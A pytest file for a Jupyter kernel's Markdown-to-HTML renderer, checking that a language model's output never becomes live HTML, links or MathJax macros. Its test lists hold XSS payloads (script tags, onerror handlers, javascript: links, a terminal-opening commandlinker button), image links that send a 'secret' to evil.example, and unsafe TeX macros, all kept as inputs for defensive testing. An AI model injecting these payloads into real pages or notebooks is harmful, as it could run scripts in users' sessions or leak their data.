"""The model's text is untrusted: it must never become a tag, an attribute, a request or a macro."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from jupyter_mistral.kernel.show.markdown import Markdown, is_safe_tex, to_html, to_math
from jupyter_mistral.kernel.show.style import frame

# tag: attributes that our renderer gives it
ALLOWED: dict[str, set[str]] = {
    **{tag: {"dir"} for tag in ("p", "ul", "li", "blockquote", "pre")},
    **{tag: {"dir", "style"} for tag in ("th", "td")},
    **{tag: {"dir", "class"} for tag in ("h1", "h2", "h3", "h4", "h5", "h6", "span")},
    **{tag: set() for tag in ("strong", "em", "s", "br", "hr", "table", "thead", "tbody", "tr")},
    "code": {"dir"},
    "ol": {"dir", "start"},
    "a": {"href", "target", "rel"},
}

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<iframe src='https://evil.example/'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<button data-commandlinker-command='terminal:create-new'>x</button>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<!-- --><b onmouseover=alert(1)>x</b>",
    "<div\nonclick=alert(1)\n>x</div>",
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    '![a"onerror="alert(1)](x "title\\"onload=alert(1)")',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/p)",
    "[x](/api/kernels)",
    "[x](../files/secret.txt)",
    "[x](blob:https://evil.example/1)",
    "<javascript:alert(1)>",
    '[x](https://a.example/"onclick="alert(1))',
    '[x](https://a.example "onclick=alert(1)")',
    "[x](<https://a.example/>'onclick=alert(1))",
    "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
    '```python"onload="alert(1)\nx\n```',
    "```html\n<img src=x onerror=alert(1)>\n```",
    "    <img src=x onerror=alert(1)>",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script> | </td><script> |",
    "# <img src=x onerror=alert(1)>",
    '| <img src=x onerror=alert(1)> | b |\n|--:|---|\n| style="x" | 2 |',
    "> - 1. <img src=x onerror=alert(1)>",
    "$<img src=x onerror=alert(1)>$",
    "$$</span><script>alert(1)</script>$$",
    "\\(<img src=x onerror=alert(1)>\\)",
    "\\[\n<img src=x onerror=alert(1)>\n\\]",
    "\\begin{align}\n<img src=x onerror=alert(1)>\n\\end{align}",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\<img src=x onerror=alert(1)>",
    "<https://a.example/<script>>",
    "\x00<img src=x onerror=alert(1)>\x00",
]


class _Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment came through")


def seen(html: str) -> _Seen:
    parser = _Seen()
    parser.feed(html)
    parser.close()
    return parser


@pytest.mark.threat("T4")
@pytest.mark.parametrize("text", HOSTILE)
def test_no_tag_and_no_attribute_of_the_model_survives(text: str) -> None:
    for html in (to_html(text), to_html(f"Answer:\n\n- {text}\n\n{text}"), to_html(text[: len(text) // 2])):
        for tag, attributes in seen(html).tags:
            assert tag in ALLOWED, html
            assert set(attributes) <= ALLOWED[tag], html
            assert attributes.get("style") in (None, "text-align:right"), html
            if tag == "a":
                assert (attributes["href"] or "").startswith(("https://a.example", "https://evil.example")), html
                assert attributes["rel"] == "noopener noreferrer nofollow"
                assert attributes["target"] == "_blank"


def test_good_links_stay_links_and_images_become_text() -> None:
    html = to_html("[docs](https://docs.python.org/3/?a=1&b=2) <mailto:a@b.example> ![a plot](https://x.example/p.png)")
    links = [attributes["href"] for tag, attributes in seen(html).tags if tag == "a"]
    assert links == ["https://docs.python.org/3/?a=1&b=2", "mailto:a@b.example"]
    assert "[image: a plot]" in html


def test_a_reference_to_a_cell_stays_plain_text() -> None:
    assert seen(to_html("See [cell 12] and [cell 3].")).text.strip() == "See [cell 12] and [cell 3]."
    assert "<a" not in to_html("See [cell 12].\n\n[cell 12]: https://evil.example/")


@pytest.mark.parametrize(
    "tex",
    [
        r"\href{javascript:alert(1)}{x}",
        r"\url{x}",
        r"\require{html}",
        r"\unicode{x3c}",
        r"\class{jp-x}{x}",
        r"\style{position:fixed}{x}",
        r"\cssId{x}{y}",
        r"\data{x}{y}",
        r"\htmlData{x=y}{z}",
        r"\htmlStyle{x}{y}",
        r"\includegraphics{https://evil.example/p.png}",
        r"\mmlToken{mi}[href=x]{y}",
        r"\def\x{y}",
        r"\let\frac=\href",
        r"\newcommand{\sum}{\href{x}{y}}",
        r"\renewcommand\alpha{x}",
        r"\DeclareMathOperator{\x}{y}",
        r"\csname href\endcsname{x}{y}",
        r"\bbox[border: url(x)]{y}",
        r"\rule{9999em}{9999em}",
        r"\Rule{1em}{2em}{3em}",
        r"\kern-9999em x",
        r"\hspace{-99em}",
        r"\toggle{a}{b}\endtoggle",
        r"\setoptions{x}",
        "x" * 5000,
    ],
)
@pytest.mark.parametrize("wrap", ["${}$", "$${}$$", r"\({}\)", r"\[{}\]", "\\begin{{align}}\n{}\n\\end{{align}}"])
def test_a_dangerous_macro_is_never_typeset(tex: str, wrap: str) -> None:
    assert not is_safe_tex(tex)
    html = to_html(wrap.format(tex))
    assert "mathjax_process" not in html
    assert "mathjax_process" not in to_math(tex, True)


@pytest.mark.parametrize(
    ("text", "tex"),
    [
        ("$x^2$", "$x^2$"),
        (r"\(a_b\)", "$a_b$"),
        ("$$\nx\n$$", "$$x$$"),
        ("\\[\na\n+ b\n\\]", "$$a\n+ b$$"),
        (r"so \[x\] holds", "$$x$$"),
        ("\\begin{align}\na &= b\n\\end{align}", "$$\\begin{align}\na &= b\n\\end{align}$$"),
        (r"$\left(\frac{a<b}{c}\right) \definitely \hrefs$", r"$\left(\frac{a<b}{c}\right) \definitely \hrefs$"),
    ],
)
def test_formulas_are_typeset_by_the_front_end(text: str, tex: str) -> None:
    parser = seen(to_html(text))
    assert any(attributes.get("class") == "mathjax_process tex2jax_process" for _, attributes in parser.tags)
    assert tex in parser.text


def test_other_text_is_never_typeset() -> None:
    html = frame(to_html(r"It costs $5 and $6, see \begin{x} and `$\href{x}{y}$`."))
    assert 'class="jmi mathjax_ignore tex2jax_ignore"' in html
    assert "mathjax_process" not in html
    assert "$5 and $6" in seen(html).text


def test_right_to_left_text_chooses_its_direction_block_by_block_and_code_stays_left_to_right() -> None:
    tags = seen(to_html("مرحبا `x`\n\n- א\n\n```python\nx = 'א'\n```\n\n| א |\n|---|\n| ב |")).tags
    for tag, attributes in tags:
        if tag in ("p", "ul", "li", "th", "td"):
            assert attributes["dir"] == "auto"
        if tag in ("pre", "code") and attributes:
            assert attributes["dir"] == "ltr"


def test_marks_that_reorder_code_are_made_visible() -> None:
    html = to_html("```python\nif ok: \u202e return # x\n```\n\n`a\u2066b`")
    assert "⟦U+202E⟧" in html
    assert "⟦U+2066⟧" in html


def test_joined_emoji_stay_joined() -> None:
    assert "👩‍💻" in to_html("```python\nx = '👩‍💻'\n```\n\n👩‍💻")


def test_headings_stay_out_of_the_notebooks_table_of_contents() -> None:
    assert seen(to_html("# One\n\n## Two")).tags[0] == ("h1", {"dir": "auto", "class": "jp-toc-ignore"})


ANSWER = """# Title

Some *text* with `code`, $x^2$ and a [link](https://a.example).

1. one
2. two

   ```python
   x = 1
   ```

```python
def f(x):
    return x  # comment

y = f(1)
```

| a | b |
|---|--:|
| 1 | 2 |

> quoted
> text

\\[
E = mc^2
\\]

- [ ] a
- b

Last words — مرحبا 👩‍💻
"""


def test_a_growing_answer_ends_like_one_rendered_at_once() -> None:
    for step in (1, 3, 50):
        growing = Markdown()
        for end in range(0, len(ANSWER), step):
            growing(ANSWER[:end])
        assert growing(ANSWER) == to_html(ANSWER)


def test_a_fence_that_is_still_open_is_shown_as_code() -> None:
    assert to_html("Look:\n\n```python\nx = 1\n").endswith('x = <span class="n">1</span></code></pre>\n')


def test_a_different_text_is_rendered_from_the_start() -> None:
    growing = Markdown()
    growing("one\n\ntwo\n\nthree")
    assert growing("other") == to_html("other")
